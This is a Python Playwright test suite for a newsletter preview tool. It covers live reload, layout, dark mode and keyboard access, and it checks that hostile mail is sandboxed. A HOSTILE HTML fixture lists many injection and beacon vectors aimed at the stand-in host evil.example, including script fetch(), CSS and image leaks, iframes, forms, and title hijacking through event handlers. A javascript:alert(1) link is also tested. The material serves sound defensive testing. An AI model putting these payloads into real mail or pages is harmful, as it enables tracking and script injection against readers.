"""The preview in a real Chromium: what an editor sees, and what a hostile mail cannot do."""

import contextlib
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path

import browser
import pytest
from browser import Browser
from playwright.sync_api import Error, Page, expect
from previews import mail, photo, remarks, running, sheet
from windows import PATIENCE_MS, Recorder, overheard, windows

from composer.errors import ManuscriptError
from composer.preview import Sheet
from composer.preview.conditions import VIEWS

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(bool(browser.skip_reason()), reason=browser.skip_reason()),
]


@pytest.fixture(scope="module")
def recorder() -> Iterator[Recorder]:
    with contextlib.closing(Recorder()) as recorder:
        yield recorder


@pytest.fixture(scope="module")
def chrome(recorder: Recorder) -> Iterator[Browser]:
    with overheard(recorder) as started:
        yield started


@pytest.fixture
def look(chrome: Browser) -> Iterator[Callable[..., Page]]:
    with windows(chrome) as open_window:
        yield open_window


def of_file(file: Path) -> Callable[[str], Sheet]:
    def render(_: str) -> Sheet:
        words = file.read_text()
        if words.startswith("TK"):
            raise ManuscriptError("editions/3-salt.md", 12, "a place is left open")
        return sheet(email_html=mail(words), page_html=mail(words), text=words)

    return render


@pytest.fixture
def manuscript(tmp_path: Path) -> Path:
    file = tmp_path / "3-salt.md"
    file.write_text("In one dry week the road closed twice.")
    return file


def stands_at(page: Page, frame: str, words: str) -> float:
    box = page.frame_locator(f"#frame-{frame}").get_by_text(words, exact=False).first.bounding_box()
    assert box is not None
    return box["y"]


def lede(page: Page, frame: str = "desktop"):  # noqa: ANN201 # Playwright's own locator
    return page.frame_locator(f"#frame-{frame}").locator("#lede")


def test_a_save_changes_the_visible_mail_and_the_reader_keeps_her_place(manuscript: Path, look: Callable) -> None:
    with running(of_file(manuscript), [manuscript]) as url:
        page = look(url)
        page.evaluate("window.still = true")
        page.mouse.move(640, 500)
        page.frame_locator("#frame-desktop").get_by_text("12. Traders").scroll_into_view_if_needed()
        before = stands_at(page, "desktop", "12. Traders")
        manuscript.write_text("In one dry week the road to the pass closed. " * 12)
        expect(lede(page)).to_contain_text("to the pass", timeout=PATIENCE_MS)
        expect(lede(page, "phone")).to_contain_text("to the pass", timeout=PATIENCE_MS)
        assert page.evaluate("window.still && window.scrollY > 0")
        assert stands_at(page, "desktop", "12. Traders") == pytest.approx(before, abs=2)


def test_a_reader_at_the_top_stays_at_the_top(manuscript: Path, look: Callable) -> None:
    with running(of_file(manuscript), [manuscript]) as url:
        page = look(url)
        manuscript.write_text("Another lede. " * 40)
        expect(lede(page)).to_contain_text("Another", timeout=PATIENCE_MS)
        assert page.evaluate("window.scrollY") == 0


def test_text_and_page_follow_a_save_too(manuscript: Path, look: Callable) -> None:
    with running(of_file(manuscript), [manuscript]) as url:
        page = look(url)
        page.keyboard.press("3")
        expect(page.locator("#text")).to_contain_text("one dry week")
        manuscript.write_text("Rain.")
        expect(page.locator("#text")).to_have_text("Rain.", timeout=PATIENCE_MS)
        page.keyboard.press("2")
        expect(lede(page, "page")).to_have_text("Rain.", timeout=PATIENCE_MS)


def test_a_problem_stands_over_the_last_good_rendering_until_it_is_mended(manuscript: Path, look: Callable) -> None:
    with running(of_file(manuscript), [manuscript]) as url:
        page = look(url)
        manuscript.write_text("TK")
        expect(page.locator("#problem")).to_contain_text("editions/3-salt.md:12", timeout=PATIENCE_MS)
        expect(lede(page)).to_contain_text("one dry week")
        manuscript.write_text("Rain.")
        expect(page.locator("#problem")).to_be_empty(timeout=PATIENCE_MS)


def test_a_preview_that_began_with_a_problem_shows_the_first_good_rendering(manuscript: Path, look: Callable) -> None:
    manuscript.write_text("TK")
    with running(of_file(manuscript), [manuscript]) as url:
        page = look(url)
        expect(page.locator("iframe")).to_have_count(0)
        manuscript.write_text("Rain.")
        expect(lede(page)).to_have_text("Rain.", timeout=PATIENCE_MS)


@pytest.mark.parametrize("system", ["light", "dark"])
def test_the_mail_is_light_or_dark_as_chosen_whatever_the_system_is(system: str, look: Callable) -> None:
    with running(lambda _: sheet()) as url:
        page = look(url, scheme=system)
        for frame in ("desktop", "phone"):
            card = page.frame_locator(f"#frame-{frame}").locator(".card")
            expect(card).to_have_css("background-color", "rgb(255, 253, 249)")
        page.keyboard.press("d")
        for frame in ("desktop", "phone"):
            card = page.frame_locator(f"#frame-{frame}").locator(".card")
            expect(card).to_have_css("background-color", "rgb(27, 25, 22)")
        assert page.url.endswith("/mail?scheme=dark")


def test_dark_stays_chosen_from_view_to_view(look: Callable) -> None:
    with running(lambda _: sheet()) as url:
        page = look(url)
        page.get_by_role("link", name="Dark").click()
        expect(page.get_by_role("link", name="Dark")).to_have_attribute("aria-current", "true")
        expect(page.get_by_role("link", name="Dark")).to_be_focused()
        page.keyboard.press("2")
        expect(page.frame_locator("#frame-page").locator(".card")).to_have_css("background-color", "rgb(27, 25, 22)")


def test_desktop_and_phone_stand_side_by_side_where_both_fit(look: Callable) -> None:
    with running(lambda _: sheet()) as url:
        page = look(url)
        desktop, phone = (page.locator(f"#frame-{name}").bounding_box() for name in ("desktop", "phone"))
    assert (desktop["width"], phone["width"]) == (600, 375)
    assert desktop["y"] == phone["y"]
    assert desktop["x"] + 600 < phone["x"]


def test_a_narrow_window_shows_one_at_a_time(look: Callable) -> None:
    with running(lambda _: sheet()) as url:
        page = look(url, width=390)
        expect(page.locator("#frame-phone")).to_be_visible()
        expect(page.locator("#frame-desktop")).to_be_hidden()
        page.keyboard.press("w")
        expect(page.locator("#frame-desktop")).to_be_visible()
        assert page.locator("#frame-desktop").bounding_box()["height"] > 2000


@pytest.mark.parametrize("view", VIEWS)
def test_the_shell_never_scrolls_sideways(view: str, look: Callable) -> None:
    long = "https://wire.example.org/" + "salt" * 60
    crowded = sheet(
        title=long, subject=long, preheader=long, problem=long, text=long, manuscript=long, remarks=remarks()
    )
    with running(lambda _: crowded) as url:
        page = look(url)
        page.goto(url.removesuffix("mail") + view)
        for width in (320, 390, 760, 1071, 1280, 1400, 1920):
            page.set_viewport_size({"width": width, "height": 800})
            assert page.evaluate("document.documentElement.scrollWidth") <= width


def test_a_frame_is_as_tall_as_its_mail(look: Callable) -> None:
    with running(lambda _: sheet()) as url:
        page = look(url)
        inner = "(frame) => frame.contentDocument.documentElement.scrollHeight - frame.clientHeight"
        assert page.locator("#frame-desktop").evaluate(inner) == 0
        assert page.locator("#frame-phone").evaluate(inner) == 0


def test_own_prints_are_seen_and_pictures_on_the_web_are_not_fetched(look: Callable, recorder: Recorder) -> None:
    web = '<tr><td><img id="web" src="https://pictures.example/salt.jpg" alt="Salt on a slate"></td></tr>'

    def render(prints_url: str) -> Sheet:
        return sheet(email_html=mail(prints_url=prints_url, extra=web), prints=(photo(),))

    with running(render) as url:
        page = look(url)
        shown = "(image) => image.naturalWidth"
        held = page.frame_locator("#frame-desktop")
        assert held.locator("img[alt^=Sacks]").evaluate(shown) == 1
        assert held.locator("#web").evaluate(shown) == 0
    assert recorder.heard_of("pictures.example") == []


def test_a_link_shows_its_address_and_turns_no_frame(look: Callable, recorder: Recorder) -> None:
    links = '<tr><td><a href="https://links.example/a" target="_self">self</a> <a href="https://links.example/b" target="_top">top</a></td></tr>'
    with running(lambda _: sheet(email_html=mail(extra=links))) as url:
        page = look(url)
        for words, end in (("self", "a"), ("top", "b")):
            page.frame_locator("#frame-desktop").get_by_text(words, exact=True).click()
            expect(page.locator("#link code")).to_have_text(f"https://links.example/{end}")
            expect(page.get_by_role("link", name="Open in a new tab")).to_have_attribute("rel", "noopener noreferrer")
        expect(lede(page)).to_be_visible()
        page.keyboard.press("Escape")
        expect(page.locator("#link")).to_be_hidden()
        assert len(page.context.pages) == 1
    assert recorder.heard_of("links.example") == []


def test_a_link_within_the_mail_goes_to_its_place(look: Callable) -> None:
    link = '<tr><td><a href="#lede">Back to the beginning</a></td></tr>'
    with running(lambda _: sheet(email_html=mail(extra=link))) as url:
        page = look(url)
        page.frame_locator("#frame-desktop").get_by_text("Back to the beginning").click()
        assert 0 < stands_at(page, "desktop", "In one dry week") < 200


def test_a_javascript_link_is_shown_but_cannot_be_opened(look: Callable) -> None:
    link = '<tr><td><a href="javascript:alert(1)">Click</a></td></tr>'
    with running(lambda _: sheet(email_html=mail(extra=link))) as url:
        page = look(url)
        page.frame_locator("#frame-desktop").get_by_text("Click").click()
        expect(page.locator("#link code")).to_have_text("javascript:alert(1)")
        expect(page.locator("#link a")).to_have_count(0)


HOSTILE = """
<!doctype html><html><head><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="preconnect" href="https://evil.example"><link rel="dns-prefetch" href="//evil.example">
<link rel="preload" as="image" href="https://evil.example/preload"><link rel="stylesheet" href="https://evil.example/css">
<link rel="icon" href="https://evil.example/icon"><link rel="manifest" href="https://evil.example/manifest">
<style>@import "https://evil.example/import"; @font-face { font-family: x; src: url(https://evil.example/font) }
body { font-family: x; background: url(https://evil.example/background) } a[href^="h"] { background: url(https://evil.example/leak) }</style>
<script>parent.document.title = document.title = "owned"; fetch("https://evil.example/fetch")</script>
<script src="https://evil.example/script"></script></head>
<body onload="parent.document.title = 'owned'"><p id="harmless">Harmless words</p>
<img src="https://evil.example/pixel" onerror="parent.document.title = 'owned'">
<img src="x" srcset="https://evil.example/srcset 2x"><svg onload="parent.document.title = 'owned'"><image href="https://evil.example/svg"/></svg>
<iframe src="https://evil.example/iframe"></iframe><iframe srcdoc="<script>top.document.title = 'owned'</script>"></iframe>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<video src="https://evil.example/video" autoplay poster="https://evil.example/poster"></video><audio src="https://evil.example/audio" autoplay></audio>
<form action="https://evil.example/form" target="_top"><button id="submit" style="font-size:30px">Send</button></form>
<table background="https://evil.example/table"><tr><td>Salt</td></tr></table></body></html>
"""


def test_a_hostile_mail_asks_nobody_and_runs_nothing(look: Callable, recorder: Recorder) -> None:
    with running(lambda _: sheet(email_html=HOSTILE, page_html=HOSTILE)) as url:
        page = look(url)
        page.frame_locator("#frame-desktop").get_by_text("Send").click()
        page.goto(url.removesuffix("mail") + "documents/mail", wait_until="domcontentloaded")  # by itself, too
        expect(page.locator("#harmless")).to_be_visible()
        page.locator("#submit").click()
        page.goto(url.removesuffix("mail") + "page", wait_until="domcontentloaded")
        expect(page.frame_locator("#frame-page").locator("#harmless")).to_be_visible()
        expect(page).to_have_title("The price of salt · page")
    assert recorder.heard_of("evil.example") == []


def test_the_recorder_would_have_heard_it(chrome: Browser, recorder: Recorder) -> None:
    page = chrome.new_page()
    page.set_content('<img src="http://control.example/pixel"><link rel="preconnect" href="https://secure.example">')
    with pytest.raises(Error, match="ERR_"):  # the recorder hangs up
        page.goto("http://control.example/")
    page.close()
    assert recorder.heard_of("control.example")


def test_everything_comes_from_this_machine(look: Callable) -> None:
    asked: list[str] = []
    with running(lambda _: sheet(remarks=remarks())) as url:
        page = look(url)
        page.on("request", lambda request: asked.append(request.url))
        for key in "1234567890":
            page.keyboard.press(key)
            expect(page.locator("#live")).to_have_text("Up to date")
        assert asked
        origin = "/".join(url.split("/")[:3])
        assert [address for address in asked if not address.startswith(f"{origin}/")] == []


def test_a_browser_that_only_knows_the_port_sees_nothing(look: Callable, chrome: Browser) -> None:
    with running(lambda _: sheet()) as url:
        page = look(url)
        assert page.context.cookies() == []
        stranger = chrome.new_page()
        stranger.goto("/".join([*url.split("/")[:3], "mail"]))
        assert "salt" not in stranger.content()
        stranger.close()


def test_the_keys_are_shown_and_put_away(look: Callable) -> None:
    with running(lambda _: sheet()) as url:
        page = look(url)
        page.keyboard.press("?")
        expect(page.get_by_role("dialog", name="Keys")).to_be_visible()
        page.keyboard.press("Escape")
        expect(page.get_by_role("dialog", name="Keys")).to_be_hidden()


def test_keys_work_while_the_mail_itself_has_the_focus(look: Callable) -> None:
    with running(lambda _: sheet()) as url:
        page = look(url)
        page.frame_locator("#frame-desktop").locator("#lede").click()
        page.keyboard.press("3")
        expect(page.locator("#text")).to_be_visible()


def test_everything_that_can_be_done_is_reached_with_the_tab_key(look: Callable) -> None:
    with running(lambda _: sheet(remarks=remarks())) as url:
        page = look(url)
        reached = []
        for _ in range(20):
            page.keyboard.press("Tab")
            reached.append(
                page.evaluate("document.activeElement.innerText.split('\\n')[0] || document.activeElement.id")
            )
    views = [name.capitalize() for name in VIEWS]
    conditions = ["Light", "Dark", "Inverted", "No images", "Images from the web", "200 %", "Right to left", "slider"]
    assert reached == [*views, "?", *conditions, "PROOF 1 error, 1 warning, 1 note"]


def test_the_end_of_the_preview_is_told_on_the_page(look: Callable) -> None:
    with running(lambda _: sheet()) as url:
        page = look(url)
    expect(page.locator("#live")).to_contain_text("Stopped", timeout=PATIENCE_MS)
    expect(lede(page)).to_be_visible()


def test_a_view_keeps_its_place_while_another_is_looked_at(look: Callable) -> None:
    with running(lambda _: sheet()) as url:
        page = look(url)
        page.frame_locator("#frame-desktop").get_by_text("12. Traders").scroll_into_view_if_needed()
        before = page.evaluate("window.scrollY")
        page.keyboard.press("3")
        expect(page.locator("#text")).to_be_visible()
        expect(page.locator("#live")).to_have_text("Up to date")
        page.keyboard.press("1")
        expect(page.locator("#frame-desktop")).to_be_visible()
        expect(page.locator("#live")).to_have_text("Up to date")
        assert page.evaluate("window.scrollY") == before > 0


def test_new_remarks_leave_the_frames_alone(manuscript: Path, look: Callable) -> None:
    def rendered(_: str) -> Sheet:
        return sheet(proved=manuscript.read_text() != "another source, the same words")

    def proved(shown: Sheet) -> Sheet:
        return replace(shown, remarks=remarks(), proved=True)

    with running(rendered, [manuscript], proved=proved) as url:
        page = look(url)
        page.locator("#frame-desktop").evaluate("frame => { frame.untouched = true; }")
        manuscript.write_text("another source, the same words")
        expect(page.locator("#remarks")).to_contain_text("1 error, 1 warning, 1 note", timeout=PATIENCE_MS)
        assert page.locator("#frame-desktop").evaluate("frame => frame.untouched")
